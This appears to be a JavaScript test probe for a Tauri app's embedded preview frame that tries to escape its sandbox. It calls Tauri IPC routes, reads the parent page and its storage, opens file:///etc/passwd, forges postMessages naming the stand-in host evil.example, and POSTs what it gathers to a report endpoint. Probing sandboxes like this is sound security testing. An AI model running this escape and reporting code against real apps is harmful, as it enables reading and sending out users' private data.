// A widget script that tries every way known out of its frame, and reports what each brought.
"use strict";
(async () => {
  const home = new URL(document.currentScript.src).origin;
  const commands = COMMANDS;
  const found = {};
  const attempt = async (name, act) => {
    try {
      const wait = new Promise((_, late) => setTimeout(() => late(new Error("no answer")), 1500));
      found[name] = { got: String(await Promise.race([act(), wait])).slice(0, 200) };
    } catch (error) {
      found[name] = { refused: String(error).slice(0, 200) };
    }
  };

  await attempt("tauri internals", async () => {
    if (!window.__TAURI_INTERNALS__ && !window.__TAURI__) throw new Error("absent");
    return Object.keys(window.__TAURI_INTERNALS__ ?? window.__TAURI__);
  });
  const invoke = window.__TAURI_INTERNALS__?.invoke ?? window.__TAURI__?.core?.invoke;
  const routes = (command) => [
    attempt(`invoke ${command}`, async () => {
      if (!invoke) throw new Error("absent");
      return invoke(command, {});
    }),
    ...["ipc://localhost/", "http://ipc.localhost/", "tauri://localhost/"].map((scheme) =>
      attempt(`fetch ${scheme}${command}`, async () => {
        const headers = { "Tauri-Callback": "1", "Tauri-Error": "2" };
        const answer = await fetch(scheme + command, { method: "POST", body: "{}", headers });
        return answer.text();
      }),
    ),
    attempt(
      `message ${command}`,
      () =>
        new Promise((got, refused) => {
          const handler = window.ipc ?? window.webkit?.messageHandlers?.ipc;
          if (!handler) return refused(new Error("absent"));
          window._1 = got;
          const message = { cmd: command, callback: 1, error: 2, payload: {}, options: {}, __TAURI_INVOKE_KEY__: "" };
          handler.postMessage(JSON.stringify(message));
        }),
    ),
  ];
  await Promise.all(commands.flatMap(routes));
  await attempt("parent document", async () => window.parent.document.body.innerText);
  await attempt("parent address", async () => window.parent.location.href);
  await attempt("parent storage", async () => window.parent.localStorage.length);
  await attempt("parent script", async () => window.parent.eval("1"));
  await attempt("eval", async () => (0, eval)("1 + 1"));
  await attempt("top navigation", async () => {
    window.top.location.href = "tauri://localhost/index.html";
    await new Promise((later) => setTimeout(later, 300));
    throw new Error("still here");
  });
  for (const address of ["tauri://localhost/index.html", "http://tauri.localhost/", "https://tauri.localhost/", "file:///etc/passwd"])
    await attempt(`window ${address}`, async () => {
      const opened = window.open(address);
      if (!opened) throw new Error("no window");
      return opened.location.href;
    });
  await attempt("frame of the app", async () => {
    const blocked = new Promise((_, refused) =>
      document.addEventListener("securitypolicyviolation", (event) => {
        if (event.effectiveDirective === "frame-src") refused(new Error(`blocked ${event.blockedURI}`));
      }),
    );
    const frame = document.createElement("iframe");
    frame.src = "tauri://localhost/index.html";
    document.body.append(frame);
    return Promise.race([blocked, new Promise((loaded) => setTimeout(() => loaded("not blocked"), 1000))]);
  });
  await attempt("forged messages", async () => {
    for (const type of ["allow-host", "token", "open", "state"])
      window.parent.postMessage({ source: "tokendesk-preview", type, host: "evil.example", id: 1 }, "*");
    throw new Error("nobody answered");
  });
  await attempt("other hosts", async () => (await fetch("https://evil.example/")).status);
  const report = () =>
    fetch(`${home}/report`, { method: "POST", body: JSON.stringify(found), headers: { "Content-Type": "text/plain" } });
  await report();
  // Whoever gets the app's page into the frame is gone by then, and reports no more.
  location.href = "tauri://localhost/index.html";
  setTimeout(report, 1500);
})();
